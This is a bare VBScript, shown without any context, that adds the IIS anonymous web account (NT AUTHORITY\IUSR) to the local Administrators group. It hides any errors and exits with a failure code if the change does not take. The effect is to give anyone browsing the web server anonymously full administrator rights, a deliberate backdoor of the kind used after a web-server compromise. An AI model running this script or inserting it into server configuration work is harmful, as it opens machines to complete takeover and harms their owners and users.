On Error Resume Next
Set group = GetObject("WinNT://./Administrators,group")
group.Add "WinNT://NT AUTHORITY/IUSR"
If Err.Number <> 0 Then WScript.Quit 1
